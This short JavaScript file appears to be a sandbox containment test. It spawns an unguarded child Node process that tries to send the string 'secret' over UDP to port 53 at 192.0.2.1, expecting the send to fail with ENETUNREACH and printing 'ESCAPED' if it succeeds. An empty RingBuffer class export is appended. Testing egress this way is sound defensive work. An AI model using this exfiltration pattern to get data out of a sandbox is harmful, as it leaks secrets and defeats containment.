/**
 * escape: sends a secret by UDP
 * outcome: ENETUNREACH
 */
import { spawnSync } from 'node:child_process';

/** Without the guard of the child. */
const SCRIPT = `require('node:dgram')
  .createSocket('udp4')
  .send('secret', 53, '192.0.2.1', (error) => {
    console.log(error ? error.code : 'ESCAPED');
    process.exit();
  });`;
const { stdout, stderr } = spawnSync(process.execPath, ['--eval', SCRIPT], { encoding: 'utf8' });
console.log(stdout, stderr);

export class RingBuffer {}
